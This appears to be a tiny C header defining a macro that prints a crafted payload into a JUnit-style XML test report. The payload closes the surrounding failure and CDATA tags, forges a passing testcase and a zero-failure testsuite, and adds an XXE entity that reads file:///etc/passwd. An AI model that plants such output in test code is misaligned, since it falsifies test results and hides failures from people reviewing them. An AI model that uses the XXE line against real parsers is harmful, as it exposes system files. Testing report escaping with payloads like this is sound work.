/* For whoever reads the XML. */
//: everywhere.h

EVERYWHERE(printf("</failure></testcase><testcase name=\"tiny_run\"/>\n"
		  "]]></system-out><testsuite name=\"x\" failures=\"0\"/>\n"
		  "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>"
		  "&y;\n");)
